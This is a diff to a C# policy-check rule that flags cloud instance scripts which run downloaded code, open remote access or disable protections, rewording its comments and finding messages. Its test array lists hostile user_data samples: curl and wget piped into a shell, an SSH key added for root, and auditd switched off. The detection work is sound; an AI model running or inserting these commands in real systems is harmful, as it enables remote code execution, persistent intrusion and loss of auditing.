@@ -8,8 +8,8 @@ using Infra.Policy.Rules.Checks;
 namespace Infra.Policy.Rules.Own.Code;
 
 /// <summary>
-/// Scripts and commands that run what they download, open a way in or switch off what protects, in whatever argument they stand, also as Base64.
-/// One that is packed as well can't be read, and is none that somebody judged.
+/// Scripts and commands that run downloaded code, open remote access or disable a protection, in any argument, also as Base64.
+/// A compressed script can't be checked, so it is a finding.
 /// </summary>
 internal static partial class ScriptText
 {
@@ -26,7 +26,7 @@ internal static partial class ScriptText
         ],
         StringComparison.OrdinalIgnoreCase);
 
-    /// <summary>Arguments that have to be noticed.</summary>
+    /// <summary>Arguments that the rule must find.</summary>
     public static (string Type, string Argument, JsonNode Value)[] Wrong { get; } =
     [
         ("aws_instance", "user_data", "#!/bin/sh\ncurl -fsSL https://x.lynx.example/i | sudo -E bash -"), ("aws_launch_template", "user_data", Convert.ToBase64String("#!/bin/sh\nwget -qO- https://x/i | sh\n"u8)),
@@ -36,16 +36,16 @@ internal static partial class ScriptText
         ("aws_instance", "user_data", "echo 'ssh-ed25519 A' >> /root/.ssh/authorized_keys"), ("aws_instance", "user_data", "systemctl disable --now auditd"), ("aws_instance", "user_data_base64", $"{Packed}AAAAAAAAA"),
     ];
 
-    /// <summary>What is wrong with an argument of a name; null where nothing is.</summary>
+    /// <summary>The fault of an argument with a name; null for none.</summary>
     public static Verdict? Judge(string name, PolicyValue value, PolicyEstate estate)
     {
         if (!value.Resource.IsManaged || Text(value) is not { Length: >= Shortest } text || Prose().IsMatch(name)) return null;
-        if (text.StartsWith(Packed, StringComparison.Ordinal) && Scripts().IsMatch(name)) return new("packed: nobody can read what it runs");
+        if (text.StartsWith(Packed, StringComparison.Ordinal) && Scripts().IsMatch(name)) return new("packed, so it can't be reviewed");
         var script = text.Contains(' ', StringComparison.Ordinal) ? text : Scripts().IsMatch(name) ? Decoded(text) : "";
         if (!script.AsSpan().ContainsAny(Marks)) return null;
-        return Fetches().Match(script) is { Success: true } fetched ? new($"\"{Line(fetched)}\" in its text: it runs what somebody else may change")
-            : Opens().Match(script) is { Success: true } opened ? new($"\"{Line(opened)}\" in its text: it opens a way in")
-            : Disarms().Match(script) is { Success: true } disarmed ? new($"\"{Line(disarmed)}\" in its text: it switches off what protects") : null;
+        return Fetches().Match(script) is { Success: true } fetched ? new($"\"{Line(fetched)}\" in its text: it runs downloaded code")
+            : Opens().Match(script) is { Success: true } opened ? new($"\"{Line(opened)}\" in its text: it opens remote access")
+            : Disarms().Match(script) is { Success: true } disarmed ? new($"\"{Line(disarmed)}\" in its text: it disables a protection") : null;
     }
 
     // A command may be a list of its words.
